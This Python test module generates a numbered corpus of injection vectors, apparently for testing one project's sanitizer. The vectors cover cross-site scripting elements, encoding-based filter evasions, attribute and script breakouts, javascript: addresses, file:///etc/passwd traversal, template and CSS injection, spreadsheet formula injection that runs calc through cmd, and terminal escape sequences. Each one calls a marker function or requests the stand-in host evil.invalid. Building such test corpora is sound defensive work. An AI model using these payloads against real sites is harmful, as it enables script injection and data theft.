"""What strangers might write to make a page run or fetch something. Written for this project.

`all_vectors()` gives byte strings. Each runs `__fire(N)` or asks for `http://evil.invalid/N`, N being its place, so that
one that gets through tells its name.
"""

import base64

RUN = "__fire(§)"
LOAD = "http://evil.invalid/§"

# Elements that act by themselves as soon as they stand in a page.
ELEMENTS = [
    "<script>R</script>",
    "<script>R//",
    "<script src=data:text/javascript,R></script>",
    "<script src=L></script>",
    "<script type=module>R</script>",
    "<script async src='data:,R'></script>",
    "<script/x>R</script >",
    "<script\n>R</script\n>",
    "<scr<script>ipt>R</scr</script>ipt>",
    "<script>/*<!--*/R/*-->*/</script>",
    "<script><!--\nR\n//--></script>",
    "<img src=x onerror=R>",
    "<img src onerror=R>",
    "<img src=L>",
    "<img srcset=L>",
    "<img src=x:x onerror=R//",
    "<image src=x onerror=R>",
    "<picture><source srcset=L><img></picture>",
    "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=R>",
    "<svg onload=R>",
    "<svg/onload=R>",
    "<svg><script>R</script></svg>",
    "<svg><script>&#95;&#95;fire(§)</script></svg>",
    "<svg><script href=data:text/javascript,R /></svg>",
    "<svg><script xlink:href=L></script></svg>",
    "<svg><image href=L></svg>",
    "<svg><image xlink:href=x onerror=R></svg>",
    "<svg><use href=L#a></svg>",
    "<svg><feImage href=L></svg>",
    "<svg><animate onbegin=R attributeName=x dur=1s>",
    "<svg><set onbegin=R attributename=x to=y>",
    "<svg><animatetransform onbegin=R attributeName=transform>",
    "<svg><a href=javascript:R><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:R /><text y=20>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=R></foreignObject></svg>",
    "<svg><style><img src=x onerror=R></style></svg>",
    "<svg><title><img src=x onerror=R></title></svg>",
    "<svg><desc><script>R</script></desc></svg>",
    "<svg><![CDATA[><img src=x onerror=R>]]></svg>",
    "<svg><p><style><a id=\"</style><img src=x onerror=R>\">",
    "<math><mi><img src=x onerror=R></mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=R></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=R></annotation-xml></math>",
    "<math href=javascript:R>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:R>x</maction></math>",
    "<math><mtext><option><style><img src=x onerror=R></style></option></mtext></math>",
    "<body onload=R>",
    "<body onpageshow=R>",
    "<body background=L>",
    "<frameset onload=R>",
    "<iframe onload=R></iframe>",
    "<iframe src=javascript:R></iframe>",
    "<iframe src=L></iframe>",
    "<iframe srcdoc='<script>R</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;R&lt;/script&gt;></iframe>",
    "<iframe src='data:text/html,<script>R</script>'></iframe>",
    "<frame src=javascript:R>",
    "<object data=L></object>",
    "<object data='data:text/html,<script>R</script>'></object>",
    "<object data=x onerror=R></object>",
    "<embed src=L>",
    "<embed src='data:text/html,<script>R</script>'>",
    "<applet code=L></applet>",
    "<video src=x onerror=R></video>",
    "<video poster=L></video>",
    "<video><source src=x onerror=R></video>",
    "<video autoplay src=L><track src=L default></video>",
    "<audio src=x onerror=R></audio>",
    "<audio autoplay src=L></audio>",
    "<input autofocus onfocus=R>",
    "<input type=image src=x onerror=R>",
    "<input type=image src=L>",
    "<textarea autofocus onfocus=R></textarea>",
    "<select autofocus onfocus=R></select>",
    "<button autofocus onfocus=R>x</button>",
    "<button autofocus formaction=javascript:R>x</button>",
    "<a href=x autofocus onfocus=R>x</a>",
    "<p contenteditable autofocus onfocus=R>x</p>",
    "<p tabindex=0 autofocus onfocus=R>x</p>",
    "<keygen autofocus onfocus=R>",
    "<details open ontoggle=R>x</details>",
    "<dialog open onclose=R><form method=dialog><button autofocus>x</button></form></dialog>",
    "<div popover id=p ontoggle=R>x</div><button popovertarget=p autofocus>x</button>",
    "<marquee onstart=R>x</marquee>",
    "<marquee loop=1 width=0 onfinish=R>x</marquee>",
    "<link rel=stylesheet href=L>",
    "<link rel=stylesheet href='data:,*{}' onload=R>",
    "<link rel=icon href=L>",
    "<link rel=preload as=image href=L>",
    "<link rel=prefetch href=L>",
    "<link rel=dns-prefetch href=//evil.invalid>",
    "<link rel=modulepreload href=L>",
    "<link rel=manifest href=L>",
    "<style>@import 'L';</style>",
    "<style>*{background:url(L)}</style>",
    "<style>@font-face{font-family:x;src:url(L)}*{font-family:x}</style>",
    "<style onload=R></style>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=R>x</b>",
    "<style>b{transition:color 1ms}b:hover{color:red}</style><b ontransitionend=R>x</b>",
    "<b style=background:url(L)>x</b>",
    "<b style='background:image-set(\"L\" 1x)'>x</b>",
    "<b style=width:expression(R)>x</b>",
    "<ul style=list-style-image:url(L)><li>x</ul>",
    "<b style=content-visibility:auto oncontentvisibilityautostatechange=R>x</b>",
    "<meta http-equiv=refresh content='0;url=javascript:R'>",
    "<meta http-equiv=refresh content='0;url=L'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>R</script>'>",
    "<meta http-equiv=set-cookie content=a=b><img src=L>",
    "<base href=http://evil.invalid/>",
    "<base target=evil><img src=x onerror=R>",
    "<form action=javascript:R><input type=submit autofocus></form>",
    "<form id=x></form><button form=x formaction=javascript:R autofocus>x</button>",
    "<isindex type=image src=x onerror=R>",
    "<table background=L><tr><td background=L>x</table>",
    "<template><img src=x onerror=R></template><img src=x onerror=R>",
    "<noscript><p title=\"</noscript><img src=x onerror=R>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=R>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=R>\">",
    "<plaintext><img src=x onerror=R>",
    "<listing>&lt;img src=x onerror=R&gt;</listing>",
    "<textarea><p title=\"</textarea><img src=x onerror=R>\"></textarea>",
    "<select><template shadowrootmode=open><img src=x onerror=R></template></select>",
    "<div><template shadowrootmode=open><img src=x onerror=R></template></div>",
    "<portal src=L></portal>",
    "<fencedframe src=L></fencedframe>",
    "<bgsound src=L>",
    "<layer src=L></layer>",
    "<xml src=L></xml>",
    "<?xml-stylesheet href=javascript:R?><img src=x onerror=R>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'L'>]><x>&e;</x>",
    "<!--><img src=x onerror=R>-->",
    "<!--[if IE]><img src=x onerror=R><![endif]-->",
    "<![CDATA[<img src=x onerror=R>]]>",
    "<% <img src=x onerror=R> %>",
    "<x onclick=R contenteditable autofocus onfocus=R>x</x>",
    "<x-y onpointerover=R style=position:fixed;inset:0>x</x-y>",
    "<slot onslotchange=R><img src=x onerror=R></slot>",
    "<h1 onmouseover=R style=position:fixed;inset:0>x</h1>",
    "<a href=javascript:R style=position:fixed;inset:0>x</a>",
    "<a ping=L href=#>x</a>",
    "<area href=javascript:R><map></map>",
    "<video onloadstart=R src=x></video>",
    "<audio onloadstart=R src=x></audio>",
    "<body onhashchange=R><a href=#x autofocus>x</a>",
    "<body onscroll=R><p style=height:200vh><input autofocus>",
    "<body onresize=R onfocus=R onblur=R>",
    "<video controls onfocusin=R autofocus></video>",
    "<meter onmouseover=R>x</meter>",
    "<progress onpointerenter=R>x</progress>",
]

# Ways to write one element so that who looks for the usual form misses it.
SPELLINGS = [
    "<IMG SRC=x ONERROR=R>",
    "<ImG sRc=x oNeRrOr=R>",
    "<img/src=x/onerror=R>",
    "<img\tsrc=x\tonerror=R>",
    "<img\nsrc=x\nonerror=R>",
    "<img\rsrc=x\ronerror=R>",
    "<img\x0csrc=x\x0conerror=R>",
    "<img\x0bsrc=x onerror=R>",
    "<img\xa0src=x onerror=R>",
    "<img src=x onerror\n=\nR>",
    "<img src=x onerror\x00=R>",
    "<im\x00g src=x onerror=R>",
    "<\x00img src=x onerror=R>",
    "<img \x00src=x onerror=R>",
    "<\x01img src=x onerror=R>",
    "<img src='x'onerror='R'>",
    '<img src="x"onerror="R">',
    "<img src=`x`onerror=R>",
    "<img src=x onerror='R'",
    "<img src=x onerror=R x=",
    "<<img src=x onerror=R>>",
    "<<script>R//<</script>",
    "<img '=' src=x onerror=R>",
    "<img \" src=x onerror=R>",
    "<img =\"x\" src=x onerror=R>",
    "<img src=x onerror=R onerror=1>",
    "<img src=x onerror=&#95;&#95;fire(§)>",
    "<img src=x onerror=&#x5f;&#X5F;fire(§)>",
    "<img src=x onerror=&#0000095&#0000095fire(§)>",
    "<img src=x onerror=&lowbar;&lowbar;fire&lpar;§&rpar;>",
    "<img src=x onerror=\\u005f_fire(§)>",
    "<img src=x onerror=window['__fire'](§)>",
    "<img src=x onerror=window[`__`+`fire`](§)>",
    "<img src=x onerror=[§].map(__fire)>",
    "<img src=x onerror=__fire`§`>",
    "<img src=x onerror=eval(atob('B'))>",
    "<img src=x onerror=Function(atob('B'))()>",
    "<img src=x onerror=setTimeout('R')>",
    "<img src=x onerror=import('data:text/javascript,R')>",
    "<img src=x onerror=location='javascript:R'>",
    "<img src=x onerror=fetch('L')>",
    "<img src=x onerror=navigator.sendBeacon('L')>",
    "<img src=x onerror='new\nImage().src=\"L\"'>",
    "<img src=x onerror='document.body.innerHTML+=\"<img/src=L>\"'>",
    "<img src=x onerror=throw/**/onerror=__fire,§>",
    "&lt;img src=x onerror=R&gt;",
    "&amp;lt;img src=x onerror=R&amp;gt;",
    "&#60;img src=x onerror=R&#62;",
    "&#x3c;img src=x onerror=R&#x3e;",
    "&#x00000000003c;img src=x onerror=R&#x3e",
    "&LT;img src=x onerror=R&GT;",
    "&ltimg src=x onerror=R&gt",
    "&nvlt;img src=x onerror=R&nvgt;",
    "%3Cimg%20src=x%20onerror=R%3E",
    "%253Cimg%2520src=x%2520onerror=R%253E",
    "%u003Cimg src=x onerror=R%u003E",
    "\\u003cimg src=x onerror=R\\u003e",
    "\\x3cimg src=x onerror=R\\x3e",
    "\\74img src=x onerror=R\\76",
    "+ADw-img src=x onerror=R+AD4-",
    "\uff1cimg src=x onerror=R\uff1e",
    "\ufe64img src=x onerror=R\ufe65",
    "\u2039img src=x onerror=R\u203a",
    "\u3008img src=x onerror=R\u3009",
    "\u226e\u0338img src=x onerror=R>",
    "<\u0338img src=x onerror=R>",
    "<\u200bimg src=x onerror=R>",
    "<\ufeffimg src=x onerror=R>",
    "\ufeff<img src=x onerror=R>",
    "\u202e<img src=x onerror=R>\u202c",
    "\u2066<img src=x onerror=R>\u2069",
    "\u2028<img src=x onerror=R>\u2029",
    "\x85<img src=x onerror=R>",
    "\x08<img src=x onerror=R>\x7f",
    "\x1b$B<img src=x onerror=R>\x1b(B",
    "\x1b[31m<img src=x onerror=R>\x1b[0m",
    "<\u0131mg src=x onerror=R>",
    "<\u017fcript>R</\u017fcript>",
    "<\u212aeygen autofocus onfocus=R>",
    "<script\u2028>R</script>",
    "<script>R</script\u00a0>",
    "\U000e003cimg src=x onerror=R\U000e003e",
    "<img src=x onerror=R>\U0001f600\ud7ff",
]

# Bytes that are no UTF-8: overlong forms, cut-off letters, other encodings.
RAW = [
    b"\xc0\xbcimg src=x onerror=R\xc0\xbe",
    b"\xe0\x80\xbcimg src=x onerror=R\xe0\x80\xbe",
    b"\xf0\x80\x80\xbcimg src=x onerror=R>",
    b"\xbcimg src=x onerror=R\xbe",
    b"\xc3<img src=x onerror=R>",
    b"\xe2\x80<img src=x onerror=R>",
    b"\xf0\x9f\x98<img src=x onerror=R>",
    b"\xff\xfe<\x00i\x00m\x00g\x00>\x00<img src=x onerror=R>",
    b"\xed\xa0\xbc<img src=x onerror=R>\xed\xb0\x80",
    b"\xf4\x90\x80\x80<img src=x onerror=R>",
    b"\x8e\xa1<img src=x onerror=R>",
    b"\x81\x30<img src=x onerror=R>",
    b"\"\xc3 onfocus=R autofocus x=\"",
    b"\xe2\x80\xa8__fire(\xc2\xa7)//",
]

# What must be left before an element can begin, times elements.
LEAVING = [
    "\">", "'>", "`>", "</p>", "</pre>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>",
    "</select>", "</svg>", "</math>", "</td></tr></table>", "</option></select>", "</a>", "</code></pre>", "</summary>",
    "</button>", "-->", "--!>", "]]>", "?>", "%>", "*/", "\\\">", "&quot;>", "&#34;>", "\n\n", "\"/>", "';", "\x00>",
    "\"\n>", "</head><body>", "</body></html>",
]
AFTER_LEAVING = ["<img src=x onerror=R>", "<script>R</script>", "<svg onload=R>", "<iframe srcdoc='<script>R</script>'>"]

# Out of an attribute's value into another attribute.
ATTRIBUTES = [
    "\" onfocus=R autofocus x=\"", "' onfocus=R autofocus x='", "` onfocus=R autofocus x=`", " onfocus=R autofocus x=",
    "\" onfocus=\"R\" autofocus=\"", "\"\nonfocus=R\nautofocus\nx=\"", "\"/onfocus=R/autofocus/x=\"", "\"onfocus=R autofocus ",
    "&quot; onfocus=R autofocus x=&quot;", "&#34; onfocus=R autofocus x=&#34;", "&#x22 onfocus=R autofocus x=",
    "\\\" onfocus=R autofocus x=\\\"", "\uff02 onfocus=R autofocus x=\uff02", "%22 onfocus=R autofocus x=%22",
    "\" style=\"background:url(L)\" x=\"", "\" style=animation-name:x onanimationstart=R x=\"", "\" srcset=L x=\"",
    "\" src=x onerror=R x=\"", "\" onload=R x=\"", "\" ontoggle=R open x=\"", "\" href=javascript:R x=\"",
    "\" formaction=javascript:R autofocus x=\"", "\" accesskey=x onclick=R x=\"", "\" id=people data-id=__proto__ x=\"",
    "x onpointerover=R", "x\" onmouseover=R x=\"", "x' onmouseover=R x='", "\" is=x-y onconnected=R x=\"",
    "\" http-equiv=refresh content=0;url=L x=\"", "\" target=_blank ping=L x=\"",
]

# Out of a script's text, or of JSON in a script.
SCRIPTS = [
    "\";R;//", "';R;//", "`;R;//", "\\\";R;//", "\\';R;//", "\"-R-\"", "'-R-'", "`-R-`", "${R}", "`${R}`", "\"+R+\"",
    "\"]);R;([\"", "\"}]});R;({\"a\":[\"", "\u2028R//", "\u2029R//", "\nR//", "\rR//", "\\\u2028R//", "*/R/*", "//\nR",
    "</script><script>R</script>", "</ScRiPt ><script>R</script>", "</script\t><svg onload=R>", "<!--<script>R", "<!--<script>",
    "-->\nR//", "\\u0022;R;//", "\\x22;R;//", "\\", "\\\\\";R;//", "\"\\\n;R//", "__proto__", "constructor", "toString",
    "hasOwnProperty", "javascript:R", "0;R", "NaN", "});R;({", "\x00\";R//", "\\0\";R//", "\"\x1b;R//", "]]>\";R//", "eval(name)",
]

ADDRESSES = [
    "javascript:R", "JaVaScRiPt:R", "javascript:R//http://x", "javascript://x%0a;R", "javascript://x/%0d%0a;R", "java\tscript:R",
    "java\nscript:R", "java\rscript:R", "javascript\t:R", "java\x00script:R", "javascript&colon;R", "javascript&#58;R",
    "javascript&#x3a;R", "javascript%3a;R", "&#106;avascript:R", "&#x6a;avascript:R", "java&Tab;script:R", "java&NewLine;script:R",
    "java&#10;script:R", "\\javascript:R", "javascript\\:R", "javascript:javascript:R", "javascript:%5f%5ffire(§)", "vbscript:R",
    "livescript:R", "mocha:R", "data:text/html,<script>R</script>", "data:text/html;base64,H", "DATA:text/html,<script>R</script>",
    "data:image/svg+xml,<svg/onload=R>", "data:,R", "data:application/xhtml+xml,<x/>", "blob:L", "filesystem:L", "view-source:L",
    "file:///etc/passwd", "feed:javascript:R", "jar:L!/", "about:blank", "intent:R#Intent;end", "L", "//evil.invalid/§",
    "\\\\evil.invalid/§", "/\\evil.invalid/§", "http:evil.invalid/§", "http:\\\\evil.invalid\\§", "https:///evil.invalid/§",
    "https://www.linkedin.com@evil.invalid/§", "https://evil.invalid/https://www.linkedin.com/in/x§", "\ufeffjavascript:R",
    "\u200bjavascript:R", "\u00a0javascript:R", "\u2028javascript:R", "\u3000javascript:R", "\uff4aavascript:R", "javascr\u0131pt:R",
    "\u202ejavascript:R", "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "javascript:R//linkedin.com/in/v§",
    "javascript:R//www.linkedin.com/in/v§?\">", "https://www.linkedin.com/in/\"onfocus=R autofocus x=\"",
    "https://www.linkedin.com/in/<img src=x onerror=R>", "https://www.linkedin.com/in/%22%3E%3Cimg%20src=x%20onerror=R%3E",
    "mailto:x?body=<img src=x onerror=R>", "tel:<img src=x onerror=R>",
] + [chr(code) + "javascript:R" for code in range(0x21)]

# Where an address may stand in Markdown.
LINKS = [
    "[x](A)", "![x](A)", "<A>", "[x](<A>)", "[x][y]\n\n[y]: A", "[x]\n\n[x]: <A> 'x'", "[x](A \"t\\\" onfocus=R autofocus x\\\"\")",
    "[![x](A)](A)", "[x](A 'x' onerror=R)",
]
MARKDOWN_ADDRESSES = [
    "javascript:R", "JAVASCRIPT:R", "javascript&colon;R", "java&Tab;script:R", "&#106;avascript:R", "\\javascript:R", "javascript\\:R",
    "data:text/html,<b>", "L", "//evil.invalid/§", "vbscript:R", "\x01javascript:R", "x\"onerror=R//", "file:///etc/passwd",
]
MARKDOWN = [
    "<script>R</script>\n", "<script>\n\nR\n\n</script>", "<pre>\n<img src=x onerror=R>\n</pre>", "<style>\n@import 'L';\n</style>",
    "<!-- x -->\n<img src=x onerror=R>", "<?x\n<img src=x onerror=R>\n?>", "<!X\n<img src=x onerror=R>>", "<![CDATA[\n<img src=x onerror=R>\n]]>",
    "<div>\n*x*\n<img src=x onerror=R>\n</div>", "x <b onclick=R>y</b> <img src=x onerror=R>", "<div\n\nonclick=R>x</div>",
    "```\"onfocus=R autofocus x=\"\nx\n```", "```<img src=x onerror=R>\nx\n```", "~~~ </code></pre><img src=x onerror=R>\nx", "`<img src=x onerror=R>`",
    "``` `\n<img src=x onerror=R>", "    <img src=x onerror=R>", "> <img src=x onerror=R>", "* <img src=x onerror=R>", "# <img src=x onerror=R>",
    "# \" onfocus=R autofocus id=\"", "x\n===<img src=x onerror=R>", "| <img src=x onerror=R> |\n|---|\n| x |", "[x]: <img src=x onerror=R>",
    "\\<img src=x onerror=R>", "\\\\<img src=x onerror=R>", "&lt;img src=x onerror=R&gt;", "*<img src=x onerror=R>*", "[<img src=x onerror=R>](x)",
    "![<img src=x onerror=R>](x)", "![\" onerror=R x=\"](x)", "<L>", "<x@evil.invalid\"onfocus=R>", "http://evil.invalid/§", "www.evil.invalid/§",
    "[x](x){onclick=R}", "{% raw %}<img src=x onerror=R>{% endraw %}", ":::{onclick=R}\nx\n:::", "[^1]\n\n[^1]: <img src=x onerror=R>", "---\nx: <img src=x onerror=R>\n---",
    "$$\\href{javascript:R}{x}$$", "[x](javascript\n:R)", "[a](<b)c><img src=x onerror=R>)", "![x](x \"\n\n<img src=x onerror=R>\")",
]

TEMPLATES = [
    "{{name}}", "{{{name}}}", "{{&name}}", "{{{message}}}", "{{#people}}<img src=x onerror=R>{{/people}}", "{{^nobody}}<script>R</script>{{/nobody}}",
    "{{> layout}}", "{{>sender}}", "{{< layout}}{{/layout}}", "{{$title}}<img src=x onerror=R>{{/title}}", "{{=<% %>=}}<%{name}%>", "{{! }}<img src=x onerror=R>",
    "{{{<img src=x onerror=R>}}}", "{{'<img src=x onerror=R>'}}", "{{constructor.constructor('R')()}}", "{{7*7}}", "{{.}}", "{{", "}}", "{{{", "}}}", "{{#", "{{/html}}",
    "${7*7}", "<%= R %>", "<%- R %>", "#{R}", "{%x%}", "[[${R}]]", "{{firstName}}", "{{owner}}", "{{sender}}", "@{R}", "%(name)s", "$(R)", "%s%n%x", "\\(R)",
]

STYLES = [
    "}*{background:url(L)}", "</style><style>@import 'L'", "\";background:url(L);x:\"", "x;background:url(L)", "expression(R)", "url(javascript:R)",
    "-moz-binding:url(L)", "behavior:url(L)", "@import 'L';", "\\3c/style\\3e", "/*</style><img src=x onerror=R>*/",
]

SHEETS = [
    "=HYPERLINK(\"L\",\"x\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    "=WEBSERVICE(\"L\")", "=IMPORTXML(\"L\",\"//a\")", "=1+1\";=1+1", "\"=1+1", "=1+1,=1+1", "=DDE(\"x\";\"y\";\"z\")", "'=1+1", "=\u200b1+1",
]

TERMINAL = [
    "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;L\x1b\\x\x1b]8;;\x1b\\", "\x1b]52;c;QQ==\x07", "\x1bP+q\x1b\\", "\x9b2J", "\x9d0;x\x9c", "x\x08\x08\x08y", "x\ry",
    "\x07\x07", "\x1b[5n", "\x1b[6n", "\x1b%G", "\x0e\x0f", "\x1bc", "\u202egnp.exe", "\u2067x\u2069", "\u061cx", "\x7f", "\x00", "\x1b[8mhidden\x1b[0m",
]


def all_vectors():
    """Every vector once, in a fixed order, numbered."""
    texts = list(ELEMENTS) + SPELLINGS
    texts += [out + then for out in LEAVING for then in AFTER_LEAVING]
    texts += ATTRIBUTES + SCRIPTS + ADDRESSES
    texts += [link.replace("A", address) for link in LINKS for address in MARKDOWN_ADDRESSES]
    texts += MARKDOWN + TEMPLATES + STYLES + SHEETS + TERMINAL
    raw = [text.encode("utf-8", "surrogatepass") for text in texts] + RAW
    return [numbered(text, number) for number, text in enumerate(dict.fromkeys(raw))]


def numbered(vector, number):
    """R becomes the call, L the address, B and H the same in base 64."""
    call = b"__fire(%d)" % number
    page = b"<script>%s</script>" % call
    result, inside_word = b"", False
    for index in range(len(vector)):
        letter = vector[index : index + 1]
        following = vector[index + 1 : index + 2]
        alone = not inside_word and not (following.isalnum() or following == b"_")
        if letter == b"R" and alone:
            result += call
        elif letter == b"L" and alone:
            result += b"http://evil.invalid/%d" % number
        elif letter == b"B" and alone:
            result += base64.b64encode(call)
        elif letter == b"H" and alone:
            result += base64.b64encode(page)
        else:
            result += letter
        inside_word = letter.isalnum() or letter == b"_"
    return result.replace(b"\xc2\xa7", b"%d" % number)
